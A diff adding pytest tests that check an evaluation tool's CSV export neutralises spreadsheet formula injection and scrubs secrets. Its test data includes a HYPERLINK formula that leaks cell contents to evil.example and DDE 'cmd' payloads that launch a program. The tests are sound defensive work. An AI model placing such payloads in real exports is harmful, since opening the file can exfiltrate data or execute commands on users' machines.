@@ -93,3 +93,60 @@ def test_cli_export_and_app_downloads_hold_no_key(leaky_store: Path, tmp_path: P
             if fmt == "parquet":
                 blob = pd.read_parquet(io.BytesIO(blob)).to_csv().encode()
             assert PLAIN_KEY.encode() not in blob and SHAPED_KEY.encode() not in blob, name
+
+
+# -- CSV formula injection ---------------------------------------------------------------------------------------------
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("cell", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
+@pytest.mark.parametrize("position", ["first", "middle", "last"])
+def test_csv_cells_that_start_a_formula_are_quoted(cell: str, position: str) -> None:
+    """Each formula start in each column position and row: quoted with ' in CSV; JSON and parquet keep it exact;
+    numbers (negative ones too) untouched."""
+    columns = {"first": ["t", "n", "u"], "middle": ["u", "t", "n"], "last": ["n", "u", "t"]}[position]
+    frame = pd.DataFrame({"t": pd.array(["plain", cell], dtype="string"), "n": [-1.5, -2],
+                          "u": ["x", "y"]})[columns]
+    read = pd.read_csv(io.StringIO(frame_bytes(frame, "csv").decode()), keep_default_na=False)
+    assert read["t"].tolist() == ["plain", "'" + cell]
+    assert read["n"].tolist() == [-1.5, -2.0] and read["u"].tolist() == ["x", "y"]
+    assert pd.read_json(io.BytesIO(frame_bytes(frame, "json")), orient="records")["t"].tolist() == ["plain", cell]
+    assert pd.read_parquet(io.BytesIO(frame_bytes(frame, "parquet")))["t"].tolist() == ["plain", cell]
+
+
+def test_formula_neutralising_keeps_other_text_and_runs_after_scrubbing() -> None:
+    register_secret(PLAIN_KEY)
+    frame = pd.DataFrame({"o": [f"={PLAIN_KEY}", "a = b", " =x", None, 3], "c": pd.Categorical(["@c", "d", "d", "d", "d"]),
+                          "b": [True, False, True, False, True]})
+    text = frame_bytes(frame, "csv").decode()
+    assert PLAIN_KEY not in text
+    read = pd.read_csv(io.StringIO(text), keep_default_na=False)
+    assert read["o"].tolist() == ["'=***", "a = b", " =x", "", "3"] and read["c"].tolist()[0] == "'@c"
+    assert read["b"].tolist() == [True, False, True, False, True]
+
+
+def test_cli_export_csv_neutralises_a_hostile_reply(tmp_path: Path) -> None:
+    path = tmp_path / "hostile.db"
+    with Store(path) as store:
+        store.create_run("r", "mbti", "m", {}, {"method": "mbti"})
+        store.upsert(ANSWERS.name, [{"run_id": "r", "model": "=cmd|' /C calc'!A0", "subject": "Men", "order_mode": "fixed",
+                                     "testing": 0, "statement_id": "1", "raw": "@SUM(1+1)*cmd", "reason": "-2+3",
+                                     "valid": 0}])
+    out = tmp_path / "out"
+    assert main(["export", "--store", str(path), "--format", "csv", "--out", str(out)]) == 0
+    row = pd.read_csv(out / f"{ANSWERS.name}.csv", keep_default_na=False).iloc[0]
+    assert (row["model"], row["raw"], row["reason"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd", "'-2+3")
+    assert row["testing"] == 0
+    assert main(["export", "--store", str(path), "--format", "json", "--out", str(tmp_path / "json")]) == 0
+    exact = pd.read_json(tmp_path / "json" / f"{ANSWERS.name}.json", orient="records").iloc[0]
+    assert (exact["model"], exact["raw"], exact["reason"]) == ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3")
+
+
+def test_csv_rows_survive_carriage_returns_inside_cells() -> None:
+    """A reply holding a bare CR or LF stays one CSV row (quoted), whatever the reader."""
+    import csv
+
+    frame = pd.DataFrame({"t": ["a\rb", "c\nd", "e\r\nf"], "n": [1, 2, 3]})
+    rows = list(csv.reader(io.StringIO(frame_bytes(frame, "csv").decode(), newline="")))
+    assert rows == [["t", "n"], ["a\rb", "1"], ["c\nd", "2"], ["e\r\nf", "3"]]
